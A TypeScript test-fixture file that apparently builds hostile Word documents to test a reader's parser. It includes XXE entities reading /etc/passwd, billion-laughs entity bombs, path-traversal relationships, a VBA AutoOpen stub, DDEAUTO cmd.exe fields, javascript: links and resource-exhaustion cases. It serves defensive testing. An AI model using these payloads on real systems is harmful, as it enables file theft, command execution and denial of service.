import { unzipSync } from 'fflate';
import { archiveOf, docxOf, RED_POINT, type DocxParts } from '../support/documents.ts';
import { archiveCases } from './archives.ts';
import type { HostileCase } from './hostile-case.ts';

const AROUND = ['Before.', 'After.'];

function p(text: string, properties = ''): string {
  return `<w:p><w:pPr>${properties}</w:pPr><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
}

function around(inner: string): string {
  return p('Before.') + inner + p('After.');
}

/** A document with something hostile between two paragraphs. */
function docxCase(
  name: string,
  body: string | (() => string),
  parts: DocxParts | (() => DocxParts) = {},
  more: Partial<HostileCase> = {},
): HostileCase {
  return {
    name: `docx: ${name}`,
    stories: {
      'story.docx': () =>
        docxOf(
          around(typeof body === 'string' ? body : body()),
          typeof parts === 'function' ? parts() : parts,
        ),
    },
    keeps: AROUND,
    drops: ['root:x:', 'alert(', 'x.invalid'],
    ...more,
  };
}

/** A document with parts of its archive changed, or taken out (undefined). */
function partsCase(
  name: string,
  change: Readonly<Record<string, string | Uint8Array | undefined>>,
  more: Partial<HostileCase> = {},
): HostileCase {
  const made = (): Uint8Array => {
    const parts: Record<string, string | Uint8Array> = { ...unzipSync(docxOf(around(''))) };
    for (const [part, content] of Object.entries(change))
      if (content === undefined) delete parts[part];
      else parts[part] = content;
    return archiveOf(parts);
  };
  return {
    name: `docx: ${name}`,
    stories: { 'story.docx': made },
    keeps: AROUND,
    drops: ['root:x:', 'alert(', 'x.invalid'],
    ...more,
  };
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function documentOf(doctype: string, body: string): string {
  return `<?xml version="1.0"?>${doctype}<w:document ${W}><w:body>${around(body)}</w:body></w:document>`;
}

function relationship(id: string, type: string, target: string, mode = ''): string {
  return `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/>`;
}

function rels(...all: readonly string[]): string {
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
}

const REFUSED = { tells: ['read-archive'], isBook: false, keeps: [] } as const;
const TANGLED = { tells: ['read-tangled'], isBook: false, keeps: [] } as const;
const DROPPED = { tells: ['read-image-dropped'] } as const;

const LAUGHS = `<!DOCTYPE w:document [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, index) =>
    `<!ENTITY lol${String(index + 1)} "${`&lol${index === 0 ? '' : String(index)};`.repeat(10)}">`,
).join('')}]>`;

const BLIP = (attribute: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" descr="Tracked"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip ${attribute}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

function field(instruction: string, result: string): string {
  const char = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  return `<w:p>${char('begin')}<w:r><w:instrText>${instruction}</w:instrText></w:r>${char('separate')}<w:r><w:t>${result}</w:t></w:r>${char('end')}</w:p>`;
}

function times(count: number, make: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => make(index)).join('');
}

/** Word documents that lie, run something, reach out or never end. */
export const HOSTILE_DOCX: readonly HostileCase[] = [
  ...archiveCases('story.docx', docxOf(p('It rained.')), 'word/document.xml'),

  partsCase('a DTD that reads a file', {
    'word/document.xml': documentOf(
      '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      p('&x;'),
    ),
  }),
  partsCase('a DTD elsewhere', {
    'word/document.xml': documentOf(
      '<!DOCTYPE w:document SYSTEM "http://x.invalid/a.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
      '',
    ),
  }),
  partsCase('a thousand million laughs', {
    'word/document.xml': documentOf(LAUGHS, p('&lol9;')),
  }),
  partsCase('laughs in its styles', {
    'word/styles.xml': `<?xml version="1.0"?>${LAUGHS}<w:styles ${W}><w:style w:type="paragraph" w:styleId="a"><w:name w:val="&lol9;"/></w:style></w:styles>`,
  }),
  partsCase('parts of other documents drawn in', {
    'word/document.xml': documentOf(
      '',
      '<w:altChunk r:id="rIdA"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><w:subDoc r:id="rIdS"/>',
    ),
    'word/_rels/document.xml.rels': rels(
      relationship('rIdA', 'aFChunk', 'page.html'),
      relationship('rIdS', 'subDocument', 'file:///etc/passwd', 'External'),
    ),
    'word/page.html': '<script>alert(1)</script>',
  }),
  partsCase('a template that is elsewhere', {
    'word/_rels/settings.xml.rels': rels(
      relationship('rId1', 'attachedTemplate', 'http://x.invalid/a.dotm', 'External'),
    ),
    'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id="rId1"/></w:settings>`,
  }),
  partsCase('macros and controls', {
    'word/vbaProject.bin': 'Sub AutoOpen()\nShell "calc"\nalert(1)',
    'word/activeX/activeX1.xml': '<ax:ocx ax:classid="{D27CDB6E}"/>',
    'word/embeddings/oleObject1.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
    'word/document.xml': documentOf(
      '',
      '<w:p><w:r><w:object><v:shape><v:imagedata r:id="rIdP"/></v:shape><o:OLEObject Type="Link" ProgID="Package" r:id="rIdO"/><w:control r:id="rIdC" w:name="alert(1)"/></w:object></w:r></w:p>',
    ),
    'word/_rels/document.xml.rels': rels(
      relationship('rIdO', 'oleObject', 'file:///etc/passwd', 'External'),
      relationship('rIdC', 'control', 'activeX/activeX1.xml'),
    ),
  }),
  partsCase('no list of content types', { '[Content_Types].xml': undefined }),
  partsCase('a list of content types that lies', {
    '[Content_Types].xml':
      '<!DOCTYPE Types SYSTEM "file:///etc/passwd"><Types><Override PartName="/word/document.xml" ContentType="text/html"/></Types>',
  }),
  partsCase('no relationships', { '_rels/.rels': undefined }),
  partsCase('no document', { 'word/document.xml': undefined }, REFUSED),
  partsCase(
    'a document of bytes',
    { 'word/document.xml': Uint8Array.of(0xff, 0x00, 0xc3) },
    REFUSED,
  ),
  partsCase(
    'a document that is empty',
    { 'word/document.xml': '' },
    { isBook: false, tells: ['read-empty', 'story-without-words'], keeps: [] },
  ),
  partsCase(
    'a document that is a page',
    { 'word/document.xml': '<html><script>alert(1)</script><p>Said.</p></html>' },
    { isBook: false, tells: ['read-empty', 'story-without-words'], keeps: [] },
  ),
  partsCase(
    'a main document that is a file of ours',
    {
      '_rels/.rels': rels(relationship('rId1', 'officeDocument', '../../../../../../etc/passwd')),
      'word/document.xml': undefined,
    },
    REFUSED,
  ),
  partsCase(
    'a main document that is elsewhere',
    {
      '_rels/.rels': rels(
        relationship('rId1', 'officeDocument', 'http://x.invalid/document.xml', 'External'),
      ),
      'word/document.xml': undefined,
    },
    REFUSED,
  ),
  partsCase('styles, notes and lists that are its own text', {
    'word/_rels/document.xml.rels': rels(
      ...['styles', 'numbering', 'comments', 'header', 'footer'].map((type, index) =>
        relationship(`rId${String(index)}`, type, '/word/document.xml'),
      ),
    ),
  }),
  partsCase('relationships in a ring', {
    'word/_rels/document.xml.rels': rels(
      relationship('rId1', 'footnotes', '_rels/document.xml.rels'),
      relationship('rId2', 'styles', '../_rels/.rels'),
    ),
  }),
  partsCase(
    'one heading of every page a hundred thousand times',
    {
      'word/_rels/document.xml.rels': rels(
        times(100_000, (index) => relationship(`rId${String(index)}`, 'header', 'header.xml')),
      ),
      'word/header.xml': `<w:hdr ${W}>${p('A heading of the page.').repeat(2000)}</w:hdr>`,
    },
    { isHeavy: true },
  ),

  docxCase(
    'a picture that is elsewhere',
    BLIP('r:link="rId-x"'),
    {
      external: { 'rId-x': 'http://x.invalid/t.png' },
    },
    { ...DROPPED, drops: ['x.invalid', 'Tracked'] },
  ),
  docxCase(
    'a picture that is embedded from elsewhere',
    BLIP('r:embed="rId-x"'),
    {
      external: { 'rId-x': 'https://x.invalid/t.png?reader=1' },
    },
    { ...DROPPED, drops: ['x.invalid', 'Tracked'] },
  ),
  partsCase(
    'pictures that are files of ours',
    {
      'word/document.xml': documentOf(
        '',
        times(4, (index) => BLIP(`r:embed="rId${String(index)}"`)),
      ),
      'word/_rels/document.xml.rels': rels(
        relationship('rId0', 'image', '../../../../../../../etc/passwd'),
        relationship('rId1', 'image', 'file:///etc/passwd', 'External'),
        relationship('rId2', 'image', '/etc/passwd'),
        relationship('rId3', 'image', '\\\\x.invalid\\share\\a.png', 'External'),
      ),
    },
    DROPPED,
  ),
  docxCase(
    'a picture that is a page',
    BLIP('r:embed="rId-a.png"'),
    { media: { 'a.png': new TextEncoder().encode('<script>alert(1)</script>') } },
    { tells: ['image-unsupported'] },
  ),
  docxCase(
    'one picture two thousand times',
    () => times(2000, () => BLIP('r:embed="rId-a.png"')),
    { media: { 'a.png': RED_POINT } },
    { pictures: 1, isHeavy: true },
  ),
  partsCase(
    'ten thousand pictures that are not in it, and as many files that are',
    {
      'word/document.xml': documentOf(
        '',
        times(10_000, (index) => BLIP(`r:embed="rId${String(index)}"`)),
      ),
      'word/_rels/document.xml.rels': rels(
        times(10_000, (index) => relationship(`rId${String(index)}`, 'image', String(index))),
      ),
      ...Object.fromEntries(Array.from({ length: 9900 }, (_, index) => [`x/${String(index)}`, ''])),
    },
    { ...DROPPED, isHeavy: true },
  ),
  docxCase(
    'fields that fetch and run',
    field('INCLUDEPICTURE "http://x.invalid/t.png" \\d', 'Kept.') +
      field('INCLUDETEXT "/etc/passwd"', 'Kept.') +
      field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', 'Kept.') +
      field('HYPERLINK "javascript:alert(1)"', 'Kept.') +
      field('MACROBUTTON AutoOpen', 'Kept.') +
      '<w:p><w:fldSimple w:instr="DDE x.invalid"><w:r><w:t>Kept.</w:t></w:r></w:fldSimple></w:p>',
    {},
    { keeps: [...AROUND, 'Kept.'], drops: ['x.invalid', 'alert(', 'calc', 'root:x:'] },
  ),
  docxCase(
    'links to scripts',
    '<w:p><w:hyperlink r:id="rId-x" w:tooltip="alert(1)"><w:r><w:t>Come.</w:t></w:r></w:hyperlink></w:p>',
    { external: { 'rId-x': 'javascript:alert(1)' } },
    { keeps: [...AROUND, 'Come.'] },
  ),
  docxCase(
    'text that is markup',
    p('&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;&#0;&#27;[2J'),
    {},
    {
      drops: [],
      tells: ['normalize-replacement-character'],
    },
  ),

  docxCase(
    'tables in tables, a hundred thousand deep',
    () => times(100_000, (index) => `<w:tbl w:x="${String(index)}"><w:tr><w:tc>`),
    {},
    TANGLED,
  ),
  docxCase(
    'tables in tables, as deep as may be',
    () => '<w:tbl><w:tr><w:tc>'.repeat(300) + p('Deep.') + '</w:tc></w:tr></w:tbl>'.repeat(300),
    {},
    { keeps: [...AROUND, 'Deep.'] },
  ),
  docxCase(
    'text boxes in text boxes',
    () =>
      '<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>'.repeat(160) +
      p('Deep.') +
      '</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'.repeat(160),
    {},
    { keeps: [...AROUND, 'Deep.'] },
  ),
  docxCase(
    'an element of ten thousand attributes',
    () => `<w:p ${times(10_000, (index) => `w:a${String(index)}="" `)}/>`,
    {},
    TANGLED,
  ),
  docxCase(
    'elements that end what never began',
    '</w:p></w:tbl></w:body></w:document></w:r>',
    {},
    {
      keeps: ['Before.'],
    },
  ),
  docxCase(
    'styles in a ring',
    p('Said.', '<w:pStyle w:val="a"/>'),
    {
      styles:
        '<w:style w:type="paragraph" w:styleId="a"><w:name w:val="a"/><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:name w:val="b"/><w:basedOn w:val="a"/></w:style><w:style w:type="paragraph" w:default="1" w:styleId="c"><w:basedOn w:val="c"/></w:style>',
    },
    { keeps: [...AROUND, 'Said.'] },
  ),
  docxCase(
    'twenty thousand styles, each upon the one before',
    () => times(300, (index) => p('Said.', `<w:pStyle w:val="s${String(19_999 - index)}"/>`)),
    () => ({
      styles: times(
        20_000,
        (index) =>
          `<w:style w:type="paragraph" w:styleId="s${String(index)}"><w:basedOn w:val="s${String(index - 1)}"/></w:style>`,
      ),
    }),
    { keeps: [...AROUND, 'Said.'], isHeavy: true },
  ),
  docxCase(
    'a number in front of each line that is a book of its own',
    () =>
      times(5000, () => p('Said.', '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')),
    () => ({
      numbering: `<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="upperLetter"/><w:lvlText w:val="${'%1.'.repeat(100_000)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`,
    }),
    { keeps: [...AROUND, 'Said.'], isHeavy: true },
  ),
  docxCase(
    'a list of a hundred thousand levels',
    () => times(500, () => p('Said.', '<w:numPr><w:numId w:val="1"/></w:numPr>')),
    () => ({
      numbering: `<w:abstractNum w:abstractNumId="1">${times(
        100_000,
        (index) => `<w:lvl w:ilvl="${String(index)}"><w:pStyle w:val="s${String(index)}"/></w:lvl>`,
      )}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`,
    }),
    { keeps: [...AROUND, 'Said.'], isHeavy: true },
  ),
  docxCase(
    'numbers that are none',
    p(
      'One.',
      '<w:numPr><w:ilvl w:val="-7"/><w:numId w:val="1"/></w:numPr><w:ind w:left="1e308"/>',
    ) +
      p(
        'Two.',
        '<w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="1"/></w:numPr><w:outlineLvl w:val="-3"/>',
      ) +
      p(
        'Three.',
        '<w:ind w:left="-99999999999"/><w:outlineLvl w:val="NaN"/><w:spacing w:before="Infinity"/>',
      ),
    {
      numbering:
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
    },
    { keeps: [...AROUND, 'One.', 'Two.', 'Three.'] },
  ),
  docxCase(
    'notes that stand in themselves',
    '<w:p><w:r><w:t>Said.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r><w:r><w:footnoteReference w:id="99"/></w:r></w:p>',
    {
      footnotes:
        '<w:footnote w:id="1"><w:p><w:r><w:t>Noted.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>',
    },
    { keeps: [...AROUND, 'Said.', 'Noted.'] },
  ),
  {
    name: 'docx: an old document that is protected',
    stories: { 'story.docx': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1) },
    tells: ['read-unsupported'],
    isBook: false,
  },
];
